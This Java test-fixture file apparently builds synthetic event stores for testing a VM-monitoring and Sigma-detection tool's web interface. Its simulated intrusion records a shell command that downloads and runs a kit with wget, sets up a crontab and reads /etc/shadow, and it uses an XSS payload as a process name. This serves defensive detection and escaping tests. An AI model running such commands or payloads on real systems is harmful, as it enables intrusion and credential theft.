package io.vmiscope.web;

import io.vmiscope.detect.BatchDetection;
import io.vmiscope.detect.sigma.RuleLoader;
import io.vmiscope.detect.sigma.RuleSet;
import io.vmiscope.detect.sigma.SigmaDetector;
import io.vmiscope.events.Event;
import io.vmiscope.events.ExecEvent;
import io.vmiscope.events.ExitEvent;
import io.vmiscope.events.FileEvent;
import io.vmiscope.events.ForkEvent;
import io.vmiscope.events.NetworkEvent;
import io.vmiscope.events.ProcessRef;
import io.vmiscope.events.SyscallEvent;
import io.vmiscope.store.DuckDbEventStore;
import io.vmiscope.store.EventFilter;
import io.vmiscope.store.Importer;
import io.vmiscope.store.StoreOptions;
import io.vmiscope.store.imports.ImportFormat;

import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;

/**
 * Stores for the web tests, written through the real store: a Linux VM whose processes include hostile names
 * (HTML and control characters) and an intrusion that the default Sigma rules detect, a DRAKVUF (Windows) log imported from the importer's own fixture, and, for
 * the performance test, a VM with thousands of processes and a million events.
 */
final class TestStores {

    static final String LINUX = "linux-lab";
    static final String WINDOWS = "win7";
    static final String HTML_NAME = "<img src=x onerror=alert(1)>";
    static final String CONTROL_NAME = "red\u001b[31m\u0007bell";
    static final long START = 1_764_151_200_000_000_000L;
    static final Path DRAKVUF_LOG = Path.of("..", "vmiscope-store", "src", "test", "resources", "imports",
            "drakmon-windows.jsonl");

    private TestStores() {
    }

    /**
     * The Linux lab VM (with an intrusion) and the imported DRAKVUF log in one new store at {@code file}, with the
     * alerts of the default Sigma rules over both stored as {@code vmiscope detect} stores them.
     */
    static DuckDbEventStore lab(Path file) {
        DuckDbEventStore store = DuckDbEventStore.open(file, StoreOptions.defaults());
        linuxLab(store::accept);
        intrusion(store::accept);
        store.flush();
        new Importer(store, Importer.DEFAULT_BATCH_SIZE, new Importer.Listener() { })
                .run(ImportFormat.DRAKVUF.reader(), List.of(DRAKVUF_LOG), WINDOWS);
        RuleSet rules = RuleLoader.load(List.of(), true, Set.of());
        for (String vm : List.of(LINUX, WINDOWS)) {
            BatchDetection.run(store, store, EventFilter.ALL.withVm(vm), new SigmaDetector(rules), alert -> { });
        }
        return store;
    }

    /**
     * init (1) → sh (100) → httpd (120) serving files and a socket; sh also starts a process with an HTML name
     * (pid 130) and one with control characters (pid 140), which both exit.
     */
    static void linuxLab(Consumer<Event> sink) {
        ProcessRef init = new ProcessRef(1, 1, 0, 0, "init");
        ProcessRef sh = new ProcessRef(100, 100, 1, 0, "sh");
        ProcessRef httpd = new ProcessRef(120, 120, 100, 33, "httpd");
        ProcessRef html = new ProcessRef(130, 130, 100, 0, HTML_NAME.substring(0, 15));
        ProcessRef control = new ProcessRef(140, 140, 100, 0, CONTROL_NAME);
        long t = START;
        sink.accept(new ExecEvent(t, LINUX, "procevents", init, "/sbin/init", List.of("/sbin/init"), true));
        sink.accept(new ForkEvent(t += ms(10), LINUX, "procevents", init, 100, 100, false));
        sink.accept(new ExecEvent(t += ms(10), LINUX, "procevents", sh, "/bin/sh", List.of("sh", "-c", "start"), true));
        sink.accept(new ForkEvent(t += ms(10), LINUX, "procevents", sh, 120, 120, false));
        sink.accept(new ExecEvent(t += ms(10), LINUX, "procevents", httpd, "/usr/sbin/httpd",
                List.of("httpd", "-p", "80"), true));
        for (int i = 0; i < 40; i++) {
            sink.accept(new FileEvent(t += ms(50), LINUX, "syscalls:file", httpd, "open", "/www/page" + (i % 12) + ".html",
                    null, "O_RDONLY", "openat"));
            sink.accept(new NetworkEvent(t += ms(5), LINUX, "network", httpd, "accept", "10.0.2.2:" + (40000 + i), 3,
                    "accept4"));
            sink.accept(new SyscallEvent(t += ms(5), LINUX, "syscalls:file", httpd, "read", 0, List.of(), "512", "x86_64"));
        }
        sink.accept(new FileEvent(t += ms(10), LINUX, "syscalls:file", httpd, "write", "/var/log/httpd.log", null,
                "O_WRONLY", "write"));
        sink.accept(new ForkEvent(t += ms(10), LINUX, "procevents", sh, 130, 130, false));
        sink.accept(new ExecEvent(t += ms(10), LINUX, "procevents", html, "/tmp/" + HTML_NAME,
                List.of("/tmp/" + HTML_NAME, "--evil"), true));
        sink.accept(new FileEvent(t += ms(10), LINUX, "syscalls:file", html, "open", "/etc/" + HTML_NAME, null,
                "O_RDONLY", "openat"));
        sink.accept(new ExitEvent(t += ms(10), LINUX, "procevents", html, 0, 0, false));
        sink.accept(new ForkEvent(t += ms(10), LINUX, "procevents", sh, 140, 140, false));
        sink.accept(new ExecEvent(t += ms(10), LINUX, "procevents", control, "/tmp/" + CONTROL_NAME,
                List.of(CONTROL_NAME), true));
        sink.accept(new ExitEvent(t += ms(10), LINUX, "procevents", control, 1, 0, false));
    }

    /** When the intrusion of {@link #intrusion} starts: after everything of {@link #linuxLab}. */
    static final long INTRUSION = START + 5_000_000_000L;

    /**
     * An intrusion through httpd (120) of {@link #linuxLab}: its CGI starts a shell (150) that downloads a kit into
     * /tmp with wget (151) and runs it (152); the kit installs a crontab (153) and reads /etc/shadow with cat (154).
     */
    static void intrusion(Consumer<Event> sink) {
        ProcessRef httpd = new ProcessRef(120, 120, 100, 33, "httpd");
        ProcessRef sh = new ProcessRef(150, 150, 120, 33, "sh");
        ProcessRef wget = new ProcessRef(151, 151, 150, 33, "wget");
        ProcessRef kit = new ProcessRef(152, 152, 150, 33, "kit");
        ProcessRef crontab = new ProcessRef(153, 153, 152, 33, "crontab");
        ProcessRef cat = new ProcessRef(154, 154, 152, 33, "cat");
        long t = INTRUSION;
        sink.accept(new ForkEvent(t, LINUX, "procevents", httpd, 150, 150, false));
        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", sh, "/bin/sh",
                List.of("sh", "-c", "wget -O /tmp/kit http://10.0.2.2/kit; chmod +x /tmp/kit; /tmp/kit"), true));
        sink.accept(new ForkEvent(t += ms(5), LINUX, "procevents", sh, 151, 151, false));
        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", wget, "/usr/bin/wget",
                List.of("wget", "-O", "/tmp/kit", "http://10.0.2.2/kit"), true));
        sink.accept(new NetworkEvent(t += ms(20), LINUX, "network", wget, "connect", "10.0.2.2:80", 3, "connect"));
        sink.accept(new FileEvent(t += ms(20), LINUX, "files", wget, "open", "/tmp/kit", null,
                "O_WRONLY|O_CREAT|O_TRUNC", "openat"));
        sink.accept(new ExitEvent(t += ms(200), LINUX, "procevents", wget, 0, 0, false));
        sink.accept(new ForkEvent(t += ms(10), LINUX, "procevents", sh, 152, 152, false));
        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", kit, "/tmp/kit", List.of("/tmp/kit"), true));
        sink.accept(new ForkEvent(t += ms(300), LINUX, "procevents", kit, 153, 153, false));
        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", crontab, "/usr/bin/crontab",
                List.of("crontab", "/tmp/kit.cron"), true));
        sink.accept(new ExitEvent(t += ms(50), LINUX, "procevents", crontab, 0, 0, false));
        sink.accept(new ForkEvent(t += ms(400), LINUX, "procevents", kit, 154, 154, false));
        sink.accept(new ExecEvent(t += ms(5), LINUX, "procevents", cat, "/bin/cat", List.of("cat", "/etc/shadow"), true));
        sink.accept(new FileEvent(t += ms(5), LINUX, "files", cat, "open", "/etc/shadow", null, "O_RDONLY", "openat"));
        sink.accept(new ExitEvent(t += ms(5), LINUX, "procevents", cat, 0, 0, false));
    }

    /**
     * A VM of {@code processes} processes (a forking shell's children, each with an exec and an exit) and
     * {@code events} events in all, the rest system calls spread over the processes over ten minutes.
     */
    static void large(Consumer<Event> sink, String vm, int processes, int events) {
        ProcessRef init = new ProcessRef(1, 1, 0, 0, "init");
        sink.accept(new ExecEvent(START, vm, "procevents", init, "/sbin/init", List.of("/sbin/init"), true));
        long span = 600_000_000_000L;
        int exits = processes - (processes + 2) / 3;
        int syscalls = Math.max(0, events - 1 - 2 * processes - exits);
        String[] calls = {"read", "write", "openat", "close", "mmap", "futex", "connect", "fstat"};
        for (int p = 0; p < processes; p++) {
            int pid = 1000 + p;
            long born = START + 1_000_000 + (span / processes) * p;
            ProcessRef parent = new ProcessRef(p < 50 ? 1 : 1000 + p % 50, 0, 0, 0, p < 50 ? "init" : "worker");
            ProcessRef self = new ProcessRef(pid, pid, parent.pid(), 1000, "worker-" + p);
            sink.accept(new ForkEvent(born, vm, "procevents", parent, pid, pid, false));
            sink.accept(new ExecEvent(born + 1000, vm, "procevents", self, "/usr/bin/worker",
                    List.of("worker", "--id", Integer.toString(p)), true));
            int perProcess = syscalls / processes + (p < syscalls % processes ? 1 : 0);
            for (int i = 0; i < perProcess; i++) {
                sink.accept(new SyscallEvent(born + 2000 + i * 10_000L, vm, "syscalls:all", self, calls[i % calls.length],
                        i % calls.length, List.of(), "0", "x86_64"));
            }
            if (p % 3 != 0) {
                sink.accept(new ExitEvent(born + 2000 + perProcess * 10_000L + 1000, vm, "procevents", self, 0, 0, false));
            }
        }
    }

    private static long ms(int millis) {
        return millis * 1_000_000L;
    }
}
